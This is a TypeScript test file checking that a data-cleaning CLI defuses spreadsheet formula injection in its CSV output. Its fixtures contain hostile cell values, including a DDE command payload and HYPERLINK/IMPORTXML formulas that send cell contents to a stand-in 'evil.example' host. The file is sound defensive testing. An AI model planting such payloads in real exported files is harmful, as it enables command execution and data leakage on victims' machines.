import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CliRun, readCsvRows, runCliAsync } from './cli-pool.ts';

/** A cell a spreadsheet would run as a formula (DESIGN §5): starts with one of these and is not a number. */
const DANGEROUS = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

const q = (text: string) => `"${text.replaceAll('"', '""')}"`;

// Hostile text in every free-text column: notes, titles, labels, pages, values, claims, summaries.
const RAW: Record<string, string[]> = {
  'sources.csv': [
    'source_id,author,title,year,kind,publisher,url,locale,notes',
    `alpha-1990,${q('=cmd|" /C calc"!A0')},${q('+Title')},1990,scholarly,${q('@pub')},${q('-x')},en,${q('=HYPERLINK("http://evil.example/?"&A1)')}`,
    `beta-1991,${q('\tTabbed')},${q('\rCarriage')},1991,archival,,,ru,${q('-2+3')}`,
  ],
  'measures.csv': [
    'measure_id,label,unit,definition,method,tolerance',
    `output.coal,${q('=Coal')},Mt,${q('@definition')},median,0.1`,
    `output.change,${q('+Change')},percent,${q('-Change of output')},median,0.1`,
  ],
  'observations/alpha-1990.csv': [
    'measure_id,period,value,unit,page,status,note',
    `output.coal,1937,128 Mt,,${q('=1+1')},verified,${q('=SUM(A1:A9)')}`,
    `output.change,1933-37,${q('+63 %')},,${q('-12')},,${q('@note')}`,
    `output.change,1938,-5,,${q('+63')},,${q('\t=tab')}`,
    `output.change,1939,-5 %,,${q('@SUM(A1)')},,`,
    // Rejects: the raw value itself is hostile.
    `output.coal,1938,${q('=1+2')},,,,`,
    `output.coal,1939,${q('@SUM(A1)')},,,,`,
    `output.coal,1940,${q('-cmd')},,,,`,
    `output.coal,1941,${q('+x')},,,,`,
    `output.coal,1942,${q('\t=x')},,,,`,
    `output.coal,1943,${q('\r=x')},,,,`,
    `output.coal,1944,${q('=x\n=y')},,,,`,
  ],
  'observations/beta-1991.csv': [
    'measure_id,period,value,unit,page,status,note',
    `output.coal,1937,"128,0",,${q('@7')},,${q('=x')}`,
    'output.change,1938,-5,,-3,,',
  ],
  'claims.csv': [
    'claim_id,measure_id,claimed,period,summary',
    `c-01,output.coal,128 Mt,1937,${q('=IMPORTXML("http://evil.example")')}`,
    `c-02,output.change,${q('+63 %')},1933-37,${q('+summary')}`,
    `c-03,output.coal,${q('=2+2')},1937,${q('@x')}`,
  ],
};

let dir: string;
let run: CliRun;
let clean: string;

beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'norma-csv-safety-'));
  const raw = path.join(dir, 'raw');
  for (const [rel, lines] of Object.entries(RAW)) {
    mkdirSync(path.dirname(path.join(raw, rel)), { recursive: true });
    writeFileSync(path.join(raw, rel), `${lines.join('\n')}\n`);
  }
  clean = path.join(dir, 'clean');
  run = await runCliAsync([
    '--raw',
    raw,
    '--clean',
    clean,
    '--out',
    path.join(dir, 'out'),
    '--to',
    'reconcile',
    '--allow-rejects',
  ]);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('CSV outputs are safe to open in a spreadsheet', () => {
  it('builds with --allow-rejects', () => {
    expect(run.code, run.stderr).toBe(0);
    expect(readdirSync(clean).sort()).toEqual([
      'audit.json',
      'claims.csv',
      'observations.csv',
      'reconciled.csv',
      'rejects.csv',
    ]);
  });

  it('no text cell of any clean CSV starts a formula', () => {
    const csvs = readdirSync(clean).filter((f) => f.endsWith('.csv'));
    const unsafe: string[] = [];
    let cells = 0;
    for (const name of csvs) {
      for (const row of readCsvRows(path.join(clean, name)) ?? []) {
        for (const [column, value] of Object.entries(row)) {
          cells++;
          if (DANGEROUS.test(value) && !NUMBER.test(value))
            unsafe.push(`${name} ${column}: ${JSON.stringify(value)}`);
        }
      }
    }
    expect(cells).toBeGreaterThan(50);
    expect(unsafe).toEqual([]);
  });

  it('hostile raw values reach rejects.csv defused, whole and otherwise unchanged', () => {
    const rejects = readCsvRows(path.join(clean, 'rejects.csv')) ?? [];
    const raws = rejects.map((r) => r.raw);
    for (const text of ['=1+2', '@SUM(A1)', '-cmd', '+x', '=x\n=y']) expect(raws).toContain(`'${text}`);
    // Leading tab and CR are trimmed from cells by ingest; what is left must still be defused.
    expect(raws.filter((r) => r === "'=x")).toHaveLength(2);
    expect(rejects.find((r) => r.raw === "'=2+2")?.ref).toBe('claims.csv:4');
    expect(rejects).toHaveLength(8);
  });

  it('numbers stay numbers; text that looks like a signed figure is text', () => {
    const obs = readCsvRows(path.join(clean, 'observations.csv')) ?? [];
    const at = (ref: string) => obs.find((o) => o.ref === ref);
    expect(at('observations/alpha-1990.csv:2')?.page).toBe("'=1+1");
    expect(at('observations/alpha-1990.csv:3')).toMatchObject({ value: '63', raw: "'+63 %", page: '-12' });
    expect(at('observations/alpha-1990.csv:4')).toMatchObject({
      value: '-5',
      low: '-5',
      high: '-5',
      raw: '-5',
    });
    expect(at('observations/alpha-1990.csv:5')).toMatchObject({
      value: '-5',
      raw: "'-5 %",
      page: "'@SUM(A1)",
    });
    expect(at('observations/beta-1991.csv:3')).toMatchObject({ value: '-5', raw: '-5', page: '-3' });
    const reconciled = readCsvRows(path.join(clean, 'reconciled.csv')) ?? [];
    expect(reconciled.find((r) => r.measure_id === 'output.change' && r.period_start === '1938')?.value).toBe(
      '-5',
    );
    const claims = readCsvRows(path.join(clean, 'claims.csv')) ?? [];
    expect(claims.find((c) => c.claim_id === 'c-02')?.claimed).toBe('63');
  });
});
